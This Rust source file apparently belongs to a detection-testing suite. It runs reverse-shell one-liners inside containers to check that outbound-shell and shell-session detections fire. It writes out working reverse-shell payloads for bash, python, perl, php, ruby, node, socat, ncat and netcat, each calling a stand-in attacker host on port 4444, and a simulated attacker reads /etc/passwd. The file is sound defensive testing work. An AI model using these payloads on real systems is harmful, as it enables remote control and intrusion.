//! Shells for somebody at the other end, by the programs that attackers find on a server.

use crate::keys::{KeyNeeds, KeyRehearsal, RehearsalError, Service, Stage, run};
use std::time::Duration;

const OUTBOUND: &str = "net.reverse_shell_outbound";
const SESSION: &str = "proc.reverse_shell";
/// Where the attacker waits.
const PORT: u16 = 4444;
/// What the attacker types.
const TYPED: &str = "id\nuname -a\ncat /etc/passwd\n";
/// A look around.
const SHORT: Duration = Duration::from_millis(800);
/// Longer than the five seconds after which a shell with a remote end counts as a session.
const LONG: Duration = Duration::from_millis(6500);

const BASH: &str = "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'";
const PYTHON: &str = "python3 -c 'import os,socket,subprocess;s=socket.socket();s.connect((\"203.0.113.9\",4444));\
    [os.dup2(s.fileno(),n) for n in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'";
const PYTHON_PTY: &str = "python3 -c 'import os,pty,socket;s=socket.create_connection((\"203.0.113.9\",4444));\
    [os.dup2(s.fileno(),n) for n in (0,1,2)];pty.spawn(\"/bin/bash\")'";
const PERL: &str = "perl -MSocket -e 'socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));\
    connect(S,sockaddr_in(4444,inet_aton(\"203.0.113.9\")));open(STDIN,\">&S\");open(STDOUT,\">&S\");\
    open(STDERR,\">&S\");exec(\"/bin/sh -i\");'";
const PHP: &str = "php -r '$s=fsockopen(\"203.0.113.9\",4444);proc_open(\"/bin/sh -i\",[$s,$s,$s],$p);\
    while(!feof($s)){usleep(50000);}'";
const RUBY: &str = "ruby -rsocket -e 's=TCPSocket.new(\"203.0.113.9\",4444);\
    exec(\"/bin/sh -i\",:in=>s,:out=>s,:err=>s)'";
const NODE: &str = "node -e 's=require(\"net\").connect(4444,\"203.0.113.9\",()=>{\
    p=require(\"child_process\").spawn(\"/bin/sh\",[\"-i\"]);s.pipe(p.stdin);p.stdout.pipe(s);p.stderr.pipe(s);\
    p.on(\"exit\",()=>process.exit(0))})'";
const SOCAT: &str = "socat TCP:203.0.113.9:4444 EXEC:'bash -li',pty,stderr,setsid,sigint,sane";
const NCAT: &str = "ncat 203.0.113.9 4444 -e /bin/bash";
const OPENBSD_NC: &str =
    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc -N 203.0.113.9 4444 >/tmp/f";

/// Every one.
pub(super) const REHEARSALS: &[KeyRehearsal] = &[
    outbound(
        "full-outbound-bash",
        "Debian's bash on /dev/tcp",
        &["bash"],
        |stage| shell(stage, BASH, SHORT),
    ),
    outbound(
        "full-outbound-python",
        "python3 copies a socket and starts a shell",
        &["python3"],
        |stage| shell(stage, PYTHON, SHORT),
    ),
    outbound(
        "full-outbound-perl",
        "perl becomes a shell",
        &["perl"],
        |stage| shell(stage, PERL, SHORT),
    ),
    outbound(
        "full-outbound-php",
        "php starts a shell on a socket",
        &["php"],
        |stage| shell(stage, PHP, SHORT),
    ),
    outbound(
        "full-outbound-ruby",
        "ruby becomes a shell",
        &["ruby"],
        |stage| shell(stage, RUBY, SHORT),
    ),
    outbound(
        "full-outbound-node",
        "node carries a shell's pipes to a socket",
        &["node"],
        |stage| shell(stage, NODE, SHORT),
    ),
    outbound(
        "full-outbound-socat",
        "socat carries a shell's terminal",
        &["socat"],
        |stage| shell(stage, SOCAT, SHORT),
    ),
    outbound(
        "full-outbound-ncat",
        "ncat starts a shell",
        &["ncat"],
        |stage| shell(stage, NCAT, SHORT),
    ),
    outbound(
        "full-outbound-nc",
        "netcat without -e, through a named pipe",
        &["nc"],
        |stage| shell(stage, OPENBSD_NC, SHORT),
    ),
    session(
        "full-session-python-pty",
        "python3 with a terminal, held open",
        &["python3"],
        |stage| shell(stage, PYTHON_PTY, LONG),
    ),
    session(
        "full-session-socat",
        "socat with a terminal, held open",
        &["socat"],
        |stage| shell(stage, SOCAT, LONG),
    ),
    session(
        "full-session-perl",
        "perl as a shell, held open",
        &["perl"],
        |stage| shell(stage, PERL, LONG),
    ),
];

const fn outbound(
    name: &'static str,
    description: &'static str,
    programs: &'static [&'static str],
    act: fn(&mut Stage) -> Result<(), RehearsalError>,
) -> KeyRehearsal {
    run(OUTBOUND, name, description, KeyNeeds::full(programs), act)
}

const fn session(
    name: &'static str,
    description: &'static str,
    programs: &'static [&'static str],
    act: fn(&mut Stage) -> Result<(), RehearsalError>,
) -> KeyRehearsal {
    run(SESSION, name, description, KeyNeeds::full(programs), act)
}

/// What a shell's end tells is the attacker's last command's doing; that it was one is what matters.
fn shell(stage: &mut Stage, line: &str, stays: Duration) -> Result<(), RehearsalError> {
    let container = stage.start(&stage.options())?;
    let peer = stage.peer(&container)?;
    peer.serve(PORT, Service::Session(TYPED, stays))?;
    stage.act_shell(&container, &format!("{line}; test $? -lt 126"))
}
